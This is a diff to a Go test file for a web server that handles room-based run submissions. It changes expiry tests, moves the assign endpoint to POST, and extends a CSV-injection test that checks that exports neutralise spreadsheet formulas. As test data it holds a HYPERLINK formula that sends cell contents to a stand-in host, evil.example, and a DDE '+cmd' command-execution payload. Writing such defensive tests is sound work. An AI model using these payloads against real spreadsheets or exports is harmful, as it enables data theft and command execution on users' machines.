@@ -118,7 +118,7 @@ func TestRoomExpiry(t *testing.T) {
 		status       int
 	}{
 		{"GET", "/api/rooms/" + room.Code, nil, nil, http.StatusGone},
-		{"GET", "/api/assign?participant=student-0000002&room=" + room.Code, nil, nil, http.StatusGone},
+		{"POST", "/api/assign", api.AssignRequest{Participant: "student-0000002", Room: room.Code}, nil, http.StatusGone},
 		{"POST", "/api/runs", func() api.Submission {
 			s := submission(record(t, controlVisit, "oracle", "human"), "student-0000002")
 			s.Room = room.Code
@@ -171,7 +171,9 @@ func TestRoomCodeGuessing(t *testing.T) {
 }
 
 // TestCSVInjection: names that a spreadsheet would run as formulas reach
-// both CSV exports neutralised; the JSON export keeps them as sent.
+// both CSV exports neutralised; the JSON export keeps them as sent. (A
+// model's name can no longer hold one, api.CheckModelName; a program's
+// participant name can.)
 func TestCSVInjection(t *testing.T) {
 	e := newEnv(t, func(o *server.Options) { o.AdminToken = "s3cret-token" })
 	var room api.RoomCreated
@@ -181,10 +183,14 @@ func TestCSVInjection(t *testing.T) {
 	}
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
 	rec := record(t, normVisit, "greedy", "model")
-	rec.Agent = evil
-	sub := submission(rec, "+cmd|'/c_calc'!A0")
+	rec.Agent = "gpt-x"
+	sub := submission(rec, evil)
 	sub.Room = room.Code
 	e.mustSubmit(sub)
+	rec.Agent = evil
+	if st, b, _ := e.do("POST", "/api/runs", submission(rec, "+cmd|'/c_calc'!A0")); st != http.StatusBadRequest {
+		t.Errorf("a formula as a model's name: %d %s, want 400", st, b)
+	}
 	admin := []string{"Authorization", "Bearer s3cret-token"}
 	for _, p := range []struct {
 		path string
@@ -213,12 +219,12 @@ func TestCSVInjection(t *testing.T) {
 				found = found || c == "'"+evil
 			}
 		}
-		if !found {
-			t.Errorf("%s: no cell holds the neutralised agent name", p.path)
+		if !found && p.hdr[1] == admin[1] {
+			t.Errorf("%s: no cell holds the neutralised participant name", p.path)
 		}
 	}
 	_, b, _ = e.do("GET", "/api/export?format=jsonl", nil, admin...)
-	if !bytes.Contains(b, []byte(`"agent":"=HYPERLINK`)) {
+	if !bytes.Contains(b, []byte(`"participant":"=HYPERLINK`)) {
 		t.Error("the JSON export does not keep the name as sent")
 	}
 }
@@ -233,10 +239,13 @@ func TestLegacyRoomCodes(t *testing.T) {
 		TokenSHA256: hex.EncodeToString(sum[:]), CreatedAt: e.now}); err != nil {
 		t.Fatal(err)
 	}
-	for _, p := range []string{"/api/rooms/abc234", "/api/rooms/ZZZ999", "/api/assign?participant=student-0000001&room=ABC234"} {
+	for _, p := range []string{"/api/rooms/abc234", "/api/rooms/ZZZ999"} {
 		if st, b, _ := e.do("GET", p, nil); st != http.StatusGone {
 			t.Errorf("GET %s: %d %s, want 410", p, st, b)
 		}
+	}
+	if st, b, _ := e.do("POST", "/api/assign", api.AssignRequest{Participant: "student-0000001", Room: "ABC234"}); st != http.StatusGone {
+		t.Errorf("POST /api/assign in room ABC234: %d %s, want 410", st, b)
 	}
 	var d api.Dashboard
 	e.getJSON("/api/rooms/ABC234/dashboard", &d, "Authorization", "Bearer "+token)
